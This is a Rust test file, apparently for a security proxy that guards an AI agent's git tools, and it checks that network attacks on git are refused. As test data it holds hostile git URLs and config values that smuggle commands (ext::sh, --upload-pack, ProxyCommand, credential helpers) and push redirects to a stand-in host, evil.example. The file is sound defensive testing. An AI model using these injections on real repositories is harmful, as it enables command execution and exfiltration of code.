//! Attacks on git over the network, each through the real proxy; none of them gets anywhere.

use super::*;

/// Makes a repository in the sandbox with a commit and an `origin`.
fn repository(proxy: &mut Proxy, url: &str) {
    call(proxy, "git_init", json!({"path": "repo"})).good();
    let commit = json!({"path": "repo", "message": "secret", "allowEmpty": true});
    call(proxy, "git_commit", commit).good();
    let remote = json!({"path": "repo", "mode": "add", "name": "origin", "url": url});
    call(proxy, "git_remote", remote).good();
}

fn write_config(proxy: &mut Proxy, text: &str) {
    let arguments = json!({"path": "repo/.git/config", "content": text});
    proxy.call("filesystem__write_file", &arguments).good();
}

#[test]
fn transports_that_run_programs_or_read_disks_are_refused() {
    let world = World::new();
    let mut proxy = world.proxy(&[]);
    repository(&mut proxy, &world.host.url("open", "app.git"));
    let bare = world.repositories.join("app.git");
    for url in [
        "ext::sh -c 'touch /tmp/caught'".to_owned(),
        "fd::17".to_owned(),
        format!("file://{}", bare.display()),
        bare.display().to_string(),
        "http://127.0.0.1/x".to_owned(),
        "git://127.0.0.1/x".to_owned(),
        "--upload-pack=touch /tmp/caught".to_owned(),
        "-oProxyCommand=x:y".to_owned(),
        "ssh://-oProxyCommand=x/y".to_owned(),
        "ssh://git@-oProxyCommand=x/y".to_owned(),
        "https://ada:secret@127.0.0.1/x".to_owned(),
    ] {
        for (tool, arguments) in [
            ("git_clone", json!({"url": url, "localPath": "there"})),
            ("git_fetch", json!({"path": "repo", "remote": url})),
            ("git_pull", json!({"path": "repo", "remote": url})),
            ("git_push", json!({"path": "repo", "remote": url})),
        ] {
            let refused = call(&mut proxy, tool, arguments).bad();
            assert!(refused.contains("DENIED"), "{tool} {url}: {refused}");
        }
        // As the URL of a remote that has a name.
        let quoted = url.replace(['\\', '"'], "");
        write_config(&mut proxy, &format!("[remote \"origin\"]\n\turl = \"{quoted}\"\n"));
        let refused = call(&mut proxy, "git_push", json!({"path": "repo"})).bad();
        assert!(refused.contains("DENIED") || refused.contains("refused"), "{url}: {refused}");
    }
    assert!(!Path::new("/tmp/caught").exists());
    assert_eq!(world.host.requests(), "");
    proxy.finish();
}

#[test]
fn options_in_the_place_of_names_are_refused() {
    let world = World::new();
    let mut proxy = world.proxy(&[]);
    repository(&mut proxy, &world.host.url("open", "app.git"));
    for (tool, arguments) in [
        ("git_push", json!({"path": "repo", "branch": "--receive-pack=x"})),
        ("git_push", json!({"path": "repo", "branch": "+main"})),
        ("git_push", json!({"path": "repo", "branch": "main:refs/heads/x"})),
        ("git_push", json!({"path": "repo", "remoteBranch": "--exec=x"})),
        ("git_push", json!({"path": "repo", "remoteBranch": "x:y"})),
        ("git_pull", json!({"path": "repo", "branch": "--upload-pack=x"})),
        (
            "git_clone",
            json!({"url": world.host.url("open", "app.git"), "localPath": "x",
            "branch": "--upload-pack=x"}),
        ),
    ] {
        let refused = call(&mut proxy, tool, arguments.clone()).bad();
        assert!(refused.contains("DENIED"), "{tool} {arguments}: {refused}");
    }
    assert_eq!(world.host.requests(), "");
    proxy.finish();
}

#[test]
fn a_config_that_would_run_or_redirect_something_is_refused() {
    let world = World::new();
    let mut proxy = world.proxy(&[]);
    let url = world.host.url("open", "app.git");
    repository(&mut proxy, &url);
    let mut n_calls = 0;
    for more in [
        "[core]\n\tsshCommand = touch /tmp/caught\n",
        "[core]\n\taskPass = touch /tmp/caught\n",
        "[core]\n\tgitProxy = touch /tmp/caught\n",
        "[credential]\n\thelper = !touch /tmp/caught\n",
        "[http]\n\tproxy = http://127.0.0.1:9\n",
        "[http]\n\tsslCert = /etc/hostname\n",
        "[include]\n\tpath = /tmp/other\n",
        "[remote \"origin\"]\n\tuploadpack = touch /tmp/caught\n",
        "[remote \"origin\"]\n\treceivepack = touch /tmp/caught\n",
        "[remote \"origin\"]\n\tproxy = http://127.0.0.1:9\n",
        "[remote \"origin\"]\n\tvcs = ext\n",
        "[remotes]\n\torigin = other\n",
        "[protocol]\n\tallow = always\n",
        "[fetch]\n\tbundleURI = https://evil.example/\n",
        "[extensions]\n\tpartialClone = origin\n",
        "[submodule]\n\trecurse = true\n",
    ] {
        for url in [url.as_str(), "ssh://git@127.0.0.1:1/x"] {
            write_config(&mut proxy, &format!("[remote \"origin\"]\n\turl = {url}\n{more}"));
            for tool in ["git_push", "git_fetch", "git_pull"] {
                // Not the same call over and over.
                n_calls += 1;
                let spelt = format!("{}repo", "./".repeat(n_calls));
                let refused = call(&mut proxy, tool, json!({"path": spelt})).bad();
                let is_refused =
                    refused.contains("DENIED") || refused.contains("structural-git-config");
                assert!(is_refused, "{tool} {url} {more}: {refused}");
            }
        }
    }
    assert!(!Path::new("/tmp/caught").exists());
    assert_eq!(world.host.requests(), "");
    proxy.finish();
}

#[test]
fn a_push_is_judged_by_where_it_really_goes() {
    let world = World::new();
    let url = world.host.url("open", "app.git");
    // Only the host itself is allowed; everything else is denied.
    let host = format!("127.0.0.1:{}", world.host.port);
    let allowed = json!({"domains": {"roles": ["git-remote-url"], "allowed": [host]}});
    let others = json!({"roles": ["git-remote-url"]});
    let rules = json!([
        {"name": "ours", "if": allowed, "then": "allow", "reason": "a test"},
        {"name": "no-others", "if": others, "then": "deny", "reason": "a test"},
        {"name": "anything", "if": {}, "then": "allow", "reason": "a test"},
    ]);
    world.place.write("policy/compiled-policy.json", json!({"rules": rules}).to_string());
    let mut proxy = world.proxy(&[]);
    repository(&mut proxy, &url);
    let base = format!("[remote \"origin\"]\n\turl = {url}\n");
    for (n, more) in [
        "\tpushurl = https://evil.example/x\n".to_owned(),
        format!("[url \"https://evil.example/\"]\n\tinsteadOf = https://{host}/\n"),
        format!("[url \"https://evil.example/\"]\n\tpushInsteadOf = https://{host}/\n"),
        "[remote]\n\tpushDefault = evil\n[remote \"evil\"]\n\turl = https://evil.example/x\n"
            .to_owned(),
        "[branch \"main\"]\n\tpushRemote = https://evil.example/x\n".to_owned(),
        // The same by ssh.
        "\tpushurl = ssh://git@evil.example/x\n".to_owned(),
        "\tpushurl = git@evil.example:x\n".to_owned(),
        format!("[url \"git@evil.example:\"]\n\tinsteadOf = https://{host}/\n"),
        format!("[url \"ssh://git@evil.example/\"]\n\tpushInsteadOf = https://{host}/\n"),
        "[branch \"main\"]\n\tpushRemote = git@evil.example:x\n".to_owned(),
    ]
    .into_iter()
    .enumerate()
    {
        write_config(&mut proxy, &format!("{base}{more}"));
        // Not the same call over and over.
        let spelt = format!("{}repo", "./".repeat(n));
        let refused = call(&mut proxy, "git_push", json!({ "path": spelt })).bad();
        assert!(refused.contains("DENIED"), "{more}: {refused}");
    }
    write_config(&mut proxy, &base);
    let branch = json!({"path": "repo", "branch": "main", "remoteBranch": "mine"});
    call(&mut proxy, "git_push", branch).good();
    proxy.finish();
}

/// Says that something is over when it is dropped.
struct Ending<'a>(&'a std::sync::atomic::AtomicBool);

impl Drop for Ending<'_> {
    fn drop(&mut self) {
        self.0.store(true, std::sync::atomic::Ordering::Relaxed);
    }
}

#[test]
fn a_config_that_changes_between_judgement_and_use_leads_nowhere_else() {
    let other = place();
    let repositories = other.dir("repositories");
    make_repository(&repositories.join("app.git"), "a.txt", "one\n");
    let evil = HttpsHost::start(&other, &repositories, PASSWORD, "");
    let world = World::new();
    // The other host would be reached if only its URL came to be used.
    let named: Vec<String> =
        [world.host.port, evil.port].iter().map(|port| format!("127.0.0.1:{port}")).collect();
    let ours = json!({"domains": {"roles": ["git-remote-url"], "allowed": [named[0]]}});
    let rules = json!([
        {"name": "ours", "if": ours, "then": "allow", "reason": "a test"},
        {"name": "no-others", "if": {"roles": ["git-remote-url"]}, "then": "deny", "reason": "a test"},
        {"name": "anything", "if": {}, "then": "allow", "reason": "a test"},
    ]);
    world.place.write("policy/compiled-policy.json", json!({"rules": rules}).to_string());
    let workspace = world.place.dir("work");
    let mut proxy = world.proxy(&["--workspace", workspace.to_str().unwrap()]);
    let clone = json!({"url": world.host.url("open", "app.git"), "localPath": "repo"});
    call(&mut proxy, "git_clone", clone).good();
    let config = workspace.join("repo/.git/config");
    let texts = [&world.host, &evil]
        .map(|host| format!("[remote \"origin\"]\n\turl = {}\n", host.url("open", "app.git")));
    let is_over = std::sync::atomic::AtomicBool::new(false);
    let (mut n_done, mut n_refused) = (0, 0);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let passing = config.with_extension("passing");
            for text in texts.iter().cycle() {
                if is_over.load(std::sync::atomic::Ordering::Relaxed) {
                    return;
                }
                std::fs::write(&passing, text).unwrap();
                std::fs::rename(&passing, &config).unwrap();
            }
        });
        // Also if a call fails, or the other thread would go on for ever.
        let _ending = Ending(&is_over);
        for n in 0..12 {
            let push = json!({"path": "repo", "branch": "main", "remoteBranch": format!("b{n}")});
            match call(&mut proxy, "git_push", push).result()["isError"].as_bool() {
                Some(true) => n_refused += 1,
                Some(false) | None => n_done += 1,
            }
        }
    });
    assert_eq!(evil.requests(), "", "{n_done} done, {n_refused} refused");
    proxy.finish();
}

#[test]
fn a_host_that_leads_elsewhere_is_not_followed() {
    let other = place();
    let repositories = other.dir("repositories");
    make_repository(&repositories.join("app.git"), "a.txt", "one\n");
    let target = HttpsHost::start(&other, &repositories, PASSWORD, "");
    let world = World::leading(place(), &format!("https://127.0.0.1:{}/open/", target.port));
    world.with_helper(PASSWORD);
    let mut proxy = world.proxy(&[]);
    let clone = json!({"url": world.host.url("lead", "app.git"), "localPath": "repo"});
    let refused = call(&mut proxy, "git_clone", clone).bad();
    assert!(refused.contains("not followed"), "{refused}");
    assert_ne!(world.host.requests(), "");
    assert_eq!(target.requests(), "");
    assert_eq!(world.helped(), "", "nobody was asked for a password");
    proxy.finish();
}

#[test]
fn a_helper_that_answers_for_another_host_is_not_believed() {
    let world = World::new();
    let clone = json!({"url": world.host.url("auth", "app.git"), "localPath": "repo"});
    // A second line of the answer, by which git itself would go on with another host.
    world.with_helper(&format!("{PASSWORD}\nhost=evil.example"));
    let mut proxy = world.proxy(&[]);
    let refused = call(&mut proxy, "git_clone", clone.clone()).bad();
    assert!(refused.contains("wants a password"), "{refused}");
    assert!(world.helped().contains("== get"), "it was asked");
    assert!(!world.host.requests().contains("Basic"), "{}", world.host.requests());
    world.with_helper(PASSWORD);
    call(&mut proxy, "git_clone", clone).good();
    proxy.finish();
}

#[test]
fn what_a_host_says_it_was_sent_is_masked() {
    let world = World::new();
    world.with_helper(PASSWORD);
    let mut proxy = world.proxy(&[]);
    let clone = json!({"url": world.host.url("echo", "app.git"), "localPath": "repo"});
    let refused = call(&mut proxy, "git_clone", clone).bad();
    assert!(!refused.contains(PASSWORD), "{refused}");
    assert!(refused.contains("not passed on, because the host was given a password"), "{refused}");
    proxy.finish();
    assert_unseen(&world, &mut proxy, PASSWORD);
}

/// Whoever was told a password can say it in any code, so what such a host says is not passed on.
#[test]
fn a_host_cannot_repeat_a_password_in_any_code() {
    let world = World::new();
    world.with_helper(PASSWORD);
    let mut proxy = world.proxy(&[]);
    repository(&mut proxy, &world.host.url("tell", "app.git"));
    let backwards: String = PASSWORD.chars().rev().collect();
    let hex = PASSWORD.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().concat();
    let percent = PASSWORD.bytes().map(|byte| format!("%{byte:02x}")).collect::<Vec<_>>().concat();
    let shifted: String = PASSWORD.bytes().map(|byte| char::from(byte + 1)).collect();
    let unseen = [backwards, hex.to_uppercase(), hex, percent, shifted, "Y29ycmVjdC1ob3Jz".into()];
    let clone = json!({"url": world.host.url("tell", "app.git"), "localPath": "there"});
    for (tool, arguments) in [
        ("git_clone", clone),
        ("git_fetch", json!({"path": "repo"})),
        ("git_push", json!({"path": "repo"})),
    ] {
        let refused = call(&mut proxy, tool, arguments).bad();
        assert!(refused.contains("HTTP 403") || refused.contains("not passed on"), "{refused}");
        for text in &unseen {
            assert!(!refused.contains(text), "{tool}: {text}: {refused}");
        }
    }
    proxy.finish();
    for text in &unseen {
        assert_unseen(&world, &mut proxy, text);
    }
}

/// Git holds every ref that a host lists; its memory ends before that of the machine does.
#[test]
fn an_endless_list_of_refs_ends_with_its_call() {
    let world = World::new();
    let mut proxy = world.proxy(&[]);
    let clone = json!({"url": world.host.url("refs", "app.git"), "localPath": "there"});
    let refused = call(&mut proxy, "git_clone", clone).bad();
    assert!(refused.contains("more than there is room for"), "{refused}");
    // Nobody else is concerned.
    let clone = json!({"url": world.host.url("open", "app.git"), "localPath": "repo"});
    call(&mut proxy, "git_clone", clone).good();
    call(&mut proxy, "git_status", json!({"path": "repo"})).good();
    proxy.finish();
}

#[test]
fn a_host_that_only_serves_files_is_not_believed() {
    let world = World::new();
    let bare = world.repositories.join("app.git");
    git(&bare, &["update-server-info"]);
    std::fs::create_dir_all(bare.join("objects/info")).unwrap();
    std::fs::write(bare.join("objects/info/http-alternates"), "/open/other.git/objects\n").unwrap();
    let mut proxy = world.proxy(&[]);
    let clone = json!({"url": world.host.url("dumb", "app.git"), "localPath": "repo"});
    let refused = call(&mut proxy, "git_clone", clone).bad();
    assert!(refused.contains("does not speak git"), "{refused}");
    let listed = proxy.call("filesystem__list_directory", &json!({"path": "."})).good();
    assert!(!listed.contains("repo"), "{listed}");
    proxy.finish();
}

#[test]
fn loopback_is_reached_only_where_a_person_named_it() {
    let world = World::new();
    world.write_policy(&["127.0.0.1:1", "127.0.0.1"]);
    let url = world.host.url("open", "app.git");
    let clone = json!({"url": url, "localPath": "repo"});
    let mut proxy = world.proxy(&[]);
    let refused = call(&mut proxy, "git_clone", clone.clone()).bad();
    assert!(refused.contains("cannot be reached"), "{refused}");
    assert_eq!(world.host.requests(), "");
    proxy.finish();
    let refusals = records(&world.place).into_iter().filter(|it| it["kind"] == "egress");
    let refusals: Vec<Value> = refusals.filter(|it| it["verdict"] == "deny").collect();
    assert!(!refusals.is_empty());
    // Among the allowed domains of the server is as good.
    std::fs::remove_dir_all(world.place.path("home/.ironcurtain/sessions")).unwrap();
    let named = format!("127.0.0.1:{}", world.host.port);
    let servers = json!({"filesystem": {"builtin": "filesystem"},
        "git": {"builtin": "git", "allowedDomains": [named]}});
    let servers = world.place.write("servers.json", servers.to_string());
    let mut proxy = world.proxy(&["--servers", servers.to_str().unwrap()]);
    call(&mut proxy, "git_clone", clone).good();
    proxy.finish();
}

/// The policy names the host, and the servers file has the last word.
#[test]
fn what_the_entry_of_git_cuts_off_or_denies_is_not_reached() {
    let world = World::new();
    let clone = json!({"url": world.host.url("open", "app.git"), "localPath": "repo"});
    let named = format!("127.0.0.1:{}", world.host.port);
    for (network, part) in [
        // Here a person would be asked, and could not open it either.
        (json!(false), "is not among the allowed domains"),
        (json!({ "deniedDomains": [named] }), "be reached"),
    ] {
        let git = json!({"builtin": "git", "sandbox": {"network": network}});
        let servers = world.place.write("servers.json", json!({ "git": git }).to_string());
        let mut proxy = world.proxy(&["--servers", servers.to_str().unwrap()]);
        let refused = call(&mut proxy, "git_clone", clone.clone()).bad();
        assert!(refused.contains(part), "{network}: {refused}");
        proxy.finish();
        assert_eq!(world.host.requests(), "", "{network}");
    }
}

#[test]
fn odd_names_and_bad_objects_of_a_remote_stay_there() {
    let world = World::new();
    let bare = world.repositories.join("app.git");
    let tip = world.tip("app.git", "main");
    // Git itself does not make such a branch, but takes it.
    std::fs::write(bare.join("refs/heads/--upload-pack=x"), format!("{tip}\n")).unwrap();
    let mut proxy = world.proxy(&[]);
    let clone = json!({"url": world.host.url("open", "app.git"), "localPath": "repo"});
    call(&mut proxy, "git_clone", clone.clone()).good();
    let branches = call(&mut proxy, "git_branch", json!({"path": "repo", "all": true})).good();
    assert!(!branches.contains("upload-pack"), "{branches}");
    // A tree with `.git` in it.
    let entry = git(&bare, &["rev-parse", "main^{tree}"]);
    let work = tempfile::tempdir().unwrap();
    let tree = work.path().join("tree");
    std::fs::write(&tree, format!("040000 tree {entry}\t.git\n")).unwrap();
    let script = format!(
        "cd '{}' && t=$(git mktree < '{}') && c=$(git -c user.name=a -c user.email=a@b commit-tree \
         -m x $t) && git update-ref refs/heads/evil $c",
        bare.display(),
        tree.display()
    );
    let made = std::process::Command::new("sh").args(["-c", &script]).status().unwrap();
    assert!(made.success());
    let fetched = call(&mut proxy, "git_fetch", json!({"path": "repo"})).bad();
    assert!(fetched.contains("not in order"), "{fetched}");
    let branches = call(&mut proxy, "git_branch", json!({"path": "repo", "all": true})).good();
    assert!(!branches.contains("evil"), "{branches}");
    proxy.finish();
}

#[test]
fn remotes_escalate_under_the_policies_that_are_built_in() {
    let world = World::new();
    let url = world.host.url("open", "app.git");
    for policy in ["default", "coding"] {
        let mut proxy = Proxy::start(&world.place, &["--policy", policy]);
        proxy.initialize();
        let clone = json!({"url": url, "localPath": "repo"});
        let refused = call(&mut proxy, "git_clone", clone).bad();
        assert!(refused.contains("ESCALATION REQUIRED"), "{policy}: {refused}");
        call(&mut proxy, "git_init", json!({"path": "repo"})).good();
        let push = json!({"path": "repo", "remote": url});
        let refused = call(&mut proxy, "git_push", push).bad();
        assert!(refused.contains("ESCALATION REQUIRED"), "{policy}: {refused}");
        proxy.finish();
    }
    assert_eq!(world.host.requests(), "");
}

/// A person can have started us in the middle of something of git's, as a hook does.
#[test]
fn the_users_helper_is_asked_in_no_repository() {
    let place = place();
    let evil = place.path("evil");
    let place = place.with_variable("GIT_DIR", evil.join(".git").to_str().unwrap());
    std::fs::create_dir_all(&evil).unwrap();
    git(&evil, &["init", "-q"]);
    let caught = place.path("caught");
    let config = format!("[credential]\n\thelper = \"!touch {}; false\"\n", caught.display());
    std::fs::write(evil.join(".git/config"), config).unwrap();
    let world = World::at(place);
    world.with_helper(PASSWORD);
    let mut proxy = world.proxy(&[]);
    let clone = json!({"url": world.host.url("auth", "app.git"), "localPath": "repo"});
    call(&mut proxy, "git_clone", clone).good();
    proxy.finish();
    assert!(world.helped().contains("== get"), "the user's own was asked");
    assert!(!caught.exists(), "and no other");
}

#[test]
fn a_helper_that_says_far_too_much_is_not_waited_for() {
    let world = World::new();
    world.with_helper(&"x".repeat(3 << 20));
    let mut proxy = world.proxy(&[]);
    let clone = json!({"url": world.host.url("auth", "app.git"), "localPath": "repo"});
    let refused = call(&mut proxy, "git_clone", clone).bad();
    assert!(refused.contains("wants a password"), "{refused}");
    proxy.finish();
}
